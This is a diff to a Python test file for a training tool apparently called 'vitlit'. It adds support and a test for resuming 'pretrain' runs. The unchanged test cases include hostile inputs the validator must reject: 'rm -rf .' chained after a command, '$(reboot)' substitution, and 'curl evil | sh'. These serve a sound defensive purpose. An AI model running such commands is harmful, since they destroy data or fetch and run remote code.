@@ -160,6 +160,7 @@ def test_a_run_whose_lock_is_held_is_running(logs: Path) -> None:
     [
         ("vitlit fit --config digits.yaml --run a\n", True),
         ("torchrun --nproc_per_node 2 -m -- vitlit fit 'my photos' --run a\n", True),
+        ("vitlit pretrain photos --run a\n", True),
         ("vitlit fit --config digits.yaml; rm -rf .\n", False),
         ("vitlit fit $(reboot)\n", False),
         ("curl evil | sh # vitlit fit\n", False),
@@ -175,6 +176,14 @@ def test_the_kept_command_is_shown_if_it_is_one(logs: Path, kept: str, is_taken:
     [run] = read_runs(logs)
     usual = "vitlit fit --config lightning_logs/a/config.yaml --run a"
     assert run.command == (kept.strip() if is_taken else usual)
+
+
+def test_a_pretraining_goes_on_as_one(logs: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    make_run(logs / "a", files="checkpoints/last.ckpt", model_mask_ratio=0.75)
+    [run] = read_runs(logs)
+    assert run.command == "vitlit pretrain --config lightning_logs/a/config.yaml --run a"
+    listed_words = " ".join(listed(capsys)).replace("\\", " ").split()
+    assert " ".join(listed_words).endswith(run.command)
 
 
 def test_fit_keeps_the_command_that_goes_on(logs: Path, capsys: pytest.CaptureFixture[str]) -> None:
